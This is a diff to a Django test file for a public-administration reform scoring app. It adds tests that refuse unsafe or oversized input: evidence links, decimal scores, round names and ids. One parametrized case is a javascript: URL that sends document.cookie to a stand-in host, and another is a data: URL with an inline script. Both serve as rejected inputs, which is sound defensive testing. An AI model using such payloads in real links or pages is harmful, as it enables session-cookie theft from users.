@@ -1,10 +1,11 @@
 """The PAR Index pages and API: who sees what, a score saved from the page, errors that keep
 what was typed."""
 
+import pytest
 from django.test import Client
 from rest_framework.test import APIClient
 
-from reform.models import ParAssessment
+from reform.models import ParAssessment, ParRound
 from reform.tests.par.conftest import NOW
 
 
@@ -263,3 +264,67 @@ def test_self_assessment_appraisal_and_publication_through_the_api(par_round, ho
     assert {x["unit"] for x in ranking} == {home.dept.code, home.other.code}
     again = organiser.post(publish, {}, format="json")
     assert again.status_code == 409 and again.json()["error"]["code"] == "published"
+
+
+@pytest.mark.parametrize("url", ["javascript:fetch('//x.example/'+document.cookie)",
+                                 "data:text/html,<script>alert(1)</script>",
+                                 "https://example.vn/" + "a" * 300])
+def test_an_evidence_link_is_an_http_address_within_its_column(par_round, home, url):
+    """The link is shown to the appraisers as <a href>: a javascript: address would run in their
+    session on a browser without the CSP, and one past the column's 200 characters was a 500 on
+    PostgreSQL. Refused naming the field, as a task's evidence link is (reform/services/tasks)."""
+    from motcua.errors import DomainError
+    from reform.par.services import score_declare
+
+    score = par_round.assessments.get(unit=home.dept).scores.get(criterion__code="1.1")
+    with pytest.raises(DomainError) as caught:
+        score_declare(score=score, actor=home.dept_officer, value="yes", evidence_url=url)
+    assert "evidence_url" in caught.value.fields
+    score.refresh_from_db()
+    assert score.evidence_url == "" and score.value == ""
+    page = _client(home.dept_officer).post(
+        f"/cai-cach/chi-so-cchc/danh-gia/{score.assessment_id}/diem/{score.pk}/",
+        {"value": "yes", "evidence_url": url})
+    assert page.status_code == 400
+    ok = score_declare(score=score, actor=home.dept_officer, value="yes",
+                       evidence_url=" https://stp.example.gov.vn/bao-cao.pdf ")
+    assert ok.evidence_url == "https://stp.example.gov.vn/bao-cao.pdf"
+
+
+def test_a_value_too_long_for_its_column_is_refused_naming_the_field(par_round, home):
+    """A declared or appraised number is stored as the text of its Decimal: 9.99… with sixty
+    decimals passed every check (a percentage, and points under the criterion's maximum) and
+    then made PostgreSQL refuse the 40-character column (a 500)."""
+    from motcua.errors import DomainError
+    from reform.par.services import score_appraise, score_declare
+
+    a = par_round.assessments.get(unit=home.dept)
+    score = a.scores.exclude(criterion__answer_kind="yes_no").filter(
+        criterion__live_metric="").first()
+    long_value = "9." + "9" * 60
+    with pytest.raises(DomainError) as caught:
+        score_declare(score=score, actor=home.dept_officer, value=long_value)
+    assert "value" in caught.value.fields
+    page = _client(home.dept_officer).post(
+        f"/cai-cach/chi-so-cchc/danh-gia/{a.pk}/diem/{score.pk}/", {"value": long_value})
+    assert page.status_code == 400
+    score_declare(score=score, actor=home.dept_officer, value="1")
+    ParAssessment.objects.filter(pk=a.pk).update(status="submitted")
+    with pytest.raises(DomainError) as caught:
+        score_appraise(score=score, actor=home.appraiser, accept=False, value=long_value,
+                       reason="Số liệu khác báo cáo")
+    assert "value" in caught.value.fields
+
+
+@pytest.mark.parametrize("field, value", [("name", "Đợt " * 100), ("criteria_set", "abc"),
+                                          ("units", "²")])
+def test_opening_a_round_refuses_a_long_name_or_a_strange_id_not_a_500(home, criteria, field,
+                                                                        value):
+    """A name past its 300-character column was a 500 on PostgreSQL; an id that is not a number
+    a 500 everywhere (motcua.inputs.id_parse)."""
+    data = {"organiser": home.home.pk, "criteria_set": criteria.pk, "units": [home.dept.pk],
+            "self_deadline": "2026-12-30", "ky": "nam", "nam": "2026", "name": "Đợt 2026"}
+    data[field] = value
+    answer = _client(home.reform_officer).post("/cai-cach/chi-so-cchc/", data)
+    assert answer.status_code == 400
+    assert not ParRound.objects.exists()
